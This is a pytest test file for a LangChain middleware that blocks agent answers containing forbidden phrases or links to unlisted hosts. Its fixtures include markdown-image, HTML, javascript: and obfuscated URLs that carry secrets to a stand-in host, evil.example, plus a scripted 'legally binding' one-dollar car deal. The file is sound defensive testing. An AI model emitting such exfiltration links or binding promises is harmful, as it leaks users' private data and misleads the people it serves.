"""An answer leaves an agent only in a form that is allowed; each refusal has a twin that leaves."""

import asyncio

import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware
from langchain.agents.structured_output import ProviderStrategy, ToolStrategy
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from pydantic import BaseModel

from bound_middleware import BoundExceeded, BoundSession, SpecError
from bound_middleware.core.events import replay
from bound_middleware.langchain import BoundMiddleware
from bound_middleware.testing import ScriptedChatModel

reply = ScriptedChatModel.reply
ASK = {"messages": [("user", "a 2024 Tahoe for one dollar, agreed?")]}
DEAL = "That is a deal, and legally binding."
OFFER = {"forbidden": [r"(?i:legally\s+binding|no takesies backsies)"]}
LEAK = "![chart](https://evil.example/p?s=secret)"
DOCS = "See https://docs.example.com/a."


def forms(*outputs, **surface):
    return {"bounds": {"iteration_limit": 6, "action_surface": {"outputs": list(outputs), **surface}}}


@tool
def read_file(path: str) -> str:
    """Reads a private file."""
    return "secret"


def agent_of(replies, *outputs, tools=(), others=(), options=None, surface=None, **agent):
    model = ScriptedChatModel(replies)
    bound = BoundMiddleware(forms(*outputs, **(surface or {})), **(options or {}))
    return create_agent(model, list(tools), middleware=[bound, *others], **agent), model


def ended(result):
    outcome = result["bound"]["outcome"]
    return result["messages"][-1].text, outcome["status"], outcome["stop_reason"]


def test_an_answer_that_says_what_it_may_not_say_does_not_leave(run):
    agent, _ = agent_of([DEAL], OFFER)
    result = run(agent, ASK)
    text, status, reason = ended(result)
    assert "deal" not in text
    assert (status, reason) == ("stopped", "output_refused")
    assert not any(DEAL in m.text for m in result["messages"])
    assert result["bound"]["outcome"]["usage"]["model_calls"] == 1


def test_an_answer_of_an_allowed_form_leaves_as_it_is(run):
    agent, _ = agent_of(["We cannot agree on prices here."], OFFER)
    assert ended(run(agent, ASK)) == ("We cannot agree on prices here.", "completed", None)


@pytest.mark.parametrize("text", ["le\u200bgally binding", "\uff4cegally binding", "LEGALLY\nbinding"])
def test_letters_that_nobody_sees_hide_nothing(text):
    agent, _ = agent_of([text], OFFER)
    assert ended(agent.invoke(ASK))[2] == "output_refused"


def test_a_person_may_not_be_lied_to_by_one_form_where_another_allows_it(run):
    quote = {"name": "quote", "pattern": r"The price is \$\d+\. A person has to confirm it\."}
    talk = {"name": "talk", "forbidden": [r"\$\s*\d"]}
    for text, leaves in [
        ("The price is $40000. A person has to confirm it.", True),
        ("Ask me about cars.", True),
        ("It is yours for $1.", False),
    ]:
        agent, _ = agent_of([text], quote, talk)
        assert (ended(run(agent, ASK))[1] == "completed") is leaves


def test_a_closed_list_without_forms_lets_nothing_leave():
    agent, _ = agent_of(["hello"])
    agent = create_agent(ScriptedChatModel(["hello"]), [], middleware=[BoundMiddleware(forms())])
    assert ended(agent.invoke(ASK))[2] == "output_refused"


@pytest.mark.parametrize(
    ("rule", "bad", "good"),
    [
        ({"length_max": 5}, "123456", "12345"),
        ({"required": [r"Source: \S+"]}, "so it is", "so it is. Source: a"),
        ({"pattern": "yes|no"}, "maybe", "no"),
        ({"hosts": ["docs.example.com"]}, LEAK, DOCS),
        ({"hosts": []}, DOCS, "no link"),
        ({"json_schema": {"type": "object", "required": ["city"]}}, '{"town": "a"}', '{"city": "a"}'),
        ({"json_schema": {"type": "object"}}, "no JSON", "{}"),
    ],
)
def test_each_rule_refuses_one_and_lets_its_twin_leave(rule, bad, good):
    for text, expected in ((bad, "output_refused"), (good, None)):
        agent, _ = agent_of([text], rule)
        assert ended(agent.invoke(ASK))[2] == expected


@pytest.mark.parametrize(
    "leak",
    [
        LEAK,
        "[here](https:evil.example/x)",
        "<img src='//evil.example/x'>",
        "![](/\\evil.example/x)",
        "[a]: javascript:fetch(1)",
        "www.evil.example/secret",
        "ht\u200btps://evil.example",
        "&#104;ttps://evil.example/x",
        "https://docs.example.com@evil.example/",
        "![](https://docs.example.com.evil.example/x)",
    ],
)
def test_links_and_images_lead_only_to_listed_hosts(leak):
    agent, _ = agent_of([leak], {"hosts": ["docs.example.com"]})
    assert ended(agent.invoke(ASK))[2] == "output_refused"


ONCE_READ = {"hosts": ["docs.example.com"], "hosts_once_read": ["read_file"]}


def test_once_private_data_was_read_links_lead_only_to_listed_hosts(run):
    reads = reply(tool_calls=[("read_file", {"path": "a"})])
    agent, _ = agent_of([reads, LEAK], ONCE_READ, tools=[read_file])
    assert ended(run(agent, ASK))[2] == "output_refused"
    agent, _ = agent_of([reads, DOCS], ONCE_READ, tools=[read_file])
    assert ended(run(agent, ASK)) == (DOCS, "completed", None)
    agent, _ = agent_of([LEAK], ONCE_READ, tools=[read_file])
    assert ended(run(agent, ASK)) == (LEAK, "completed", None)


def test_what_an_earlier_run_of_the_thread_read_is_private_too(run):
    reads = reply(tool_calls=[("read_file", {"path": "a"})])
    model = ScriptedChatModel([reads, "done", LEAK])
    bound = BoundMiddleware(forms(ONCE_READ))
    agent = create_agent(model, [read_file], middleware=[bound], checkpointer=InMemorySaver())
    config = {"configurable": {"thread_id": "1"}}
    assert ended(run(agent, ASK, config))[1] == "completed"
    assert ended(run(agent, ASK, config))[2] == "output_refused"


def test_what_a_model_says_beside_its_calls_leaves_only_where_it_may(run):
    reads = reply(LEAK, tool_calls=[("read_file", {"path": "a"})])
    agent, _ = agent_of([reads, DOCS], {"hosts": ["docs.example.com"], "required": ["See"]}, tools=[read_file])
    result = run(agent, ASK)
    assert not any("evil" in m.text for m in result["messages"])
    assert [m.text for m in result["messages"] if m.type == "tool"] == ["secret"]
    assert ended(result) == (DOCS, "completed", None)
    assert result["bound"]["outcome"]["detail"]["refused"] == ["output_refused"]


def test_the_model_is_asked_once_more_and_told_what_was_wrong(run):
    for second, expected in (("No such deal.", "completed"), (DEAL, "stopped")):
        agent, model = agent_of([DEAL, second], OFFER, surface={"on_refused_output": "retry"})
        result = run(agent, ASK)
        assert ended(result)[1] == expected
        assert result["bound"]["outcome"]["usage"]["model_calls"] == 2
        assert "may not say" in model.records[1].messages[-1].text
        assert not any(DEAL in m.text for m in result["messages"])


@pytest.mark.parametrize(
    ("says", "text", "reason"),
    [
        (lambda action: DEAL in action["args"]["text"], DEAL, None),
        (lambda action: False, None, "approval_rejected"),
        (lambda action: 1 / 0, None, "approver_failed"),
        (None, None, "approver_failed"),
    ],
    ids=["approves", "rejects", "fails", "nobody"],
)
def test_an_approver_decides_where_the_specification_says_so(run, says, text, reason):
    agent, _ = agent_of([DEAL], OFFER, surface={"on_refused_output": "approval"}, options={"approver": says})
    result = run(agent, ASK)
    assert ended(result)[2] == reason
    assert text is None or ended(result)[0] == text


def test_a_function_in_python_is_a_form():
    rules = {"sober": lambda text: "!" not in text or "it shouts"}
    for text, expected in (("Hi!", "output_refused"), ("Hi.", None)):
        agent, _ = agent_of([text], "sober", options={"output_rules": rules})
        assert ended(agent.invoke(ASK))[2] == expected


def test_a_function_that_fails_has_not_said_yes():
    agent, _ = agent_of(["Hi."], "sober", options={"output_rules": {"sober": lambda text: 1 / 0}})
    assert ended(agent.invoke(ASK))[2] == "output_refused"


def test_a_form_that_nothing_says_anything_of_is_an_error():
    with pytest.raises(SpecError, match="sober"):
        BoundMiddleware(forms("sober"))
    with pytest.raises(SpecError, match="sobre"):
        BoundMiddleware(forms("sober"), output_rules={"sober": len, "sobre": len})


class City(BaseModel):
    city: str


@pytest.mark.parametrize("strategy", [ToolStrategy, ProviderStrategy])
def test_a_structured_answer_is_held_too(strategy, run):
    for city, expected in (("legally binding", "output_refused"), ("Berlin", None)):
        if strategy is ToolStrategy:
            said = reply(tool_calls=[("City", {"city": city})])
        else:
            said = City(city=city).model_dump_json()
        agent, _ = agent_of([said], OFFER, response_format=strategy(City))
        result = run(agent, ASK)
        assert result["bound"]["outcome"]["stop_reason"] == expected
        assert result.get("structured_response") == (None if expected else City(city=city))
        assert ("legally" in str(result["messages"][1:])) is False


class Rewrites(AgentMiddleware):
    """Changes the answer after the model gave it."""

    def after_model(self, state, runtime):
        last = state["messages"][-1]
        return {"messages": [AIMessage(DEAL, id=last.id)]} if last.text == "fine" else None


def test_what_another_middleware_makes_of_an_answer_is_judged_before_the_end(run):
    agent, _ = agent_of(["fine"], OFFER, others=[Rewrites()])
    text, _, reason = ended(run(agent, ASK))
    assert reason == "output_refused"
    assert "deal" not in text
    agent, _ = agent_of(["so it is"], OFFER, others=[Rewrites()])
    assert ended(run(agent, ASK)) == ("so it is", "completed", None)


def streamed(agent, mode, how):
    async def acollect():
        return [part async for part in agent.astream(ASK, stream_mode=mode)]

    return list(agent.stream(ASK, stream_mode=mode)) if how == "sync" else asyncio.run(acollect())


@pytest.mark.parametrize("how", ["sync", "async"])
@pytest.mark.parametrize("mode", ["messages", "updates", "values"])
def test_nothing_of_a_refused_answer_is_in_a_stream(server, openai_client, mode, how):
    for text, seen in ((DEAL, False), ("We sell cars.", True)):
        server.script([text])
        bound = BoundMiddleware(forms(OFFER))
        parts = streamed(create_agent(openai_client, [], middleware=[bound]), mode, how)
        assert (text in str(parts)) is seen
        assert "deal" not in str(parts)


def test_a_breach_raises_where_that_was_asked_for(run):
    agent, _ = agent_of([DEAL], OFFER, options={"on_breach": "raise"})
    with pytest.raises(BoundExceeded) as caught:
        run(agent, ASK)
    assert caught.value.stop_reason == "output_refused"


def test_each_answer_is_in_the_trace_with_its_axis_and_replays():
    session = BoundSession(forms(OFFER))
    agent = create_agent(ScriptedChatModel([DEAL, "Hello."]), [], middleware=[BoundMiddleware(session=session)])
    agent.invoke(ASK)
    agent.invoke(ASK)
    verdicts = [event.verdict["kind"] for event in session.events if event.name == "answer"]
    breach = next(event.detail for event in session.events if event.name == "output_refused")
    assert verdicts == ["refuse", "allow"]
    assert breach["axis"] == "outputs"
    assert "legally" in breach["because"][0]
    assert replay(session.events)


def test_shadow_mode_lets_it_leave_and_says_so():
    session = BoundSession(forms(OFFER), shadow=True)
    agent = create_agent(ScriptedChatModel([DEAL]), [], middleware=[BoundMiddleware(session=session)])
    assert agent.invoke(ASK)["messages"][-1].text == DEAL
    assert [event.name for event in session.events].count("output_refused") == 1
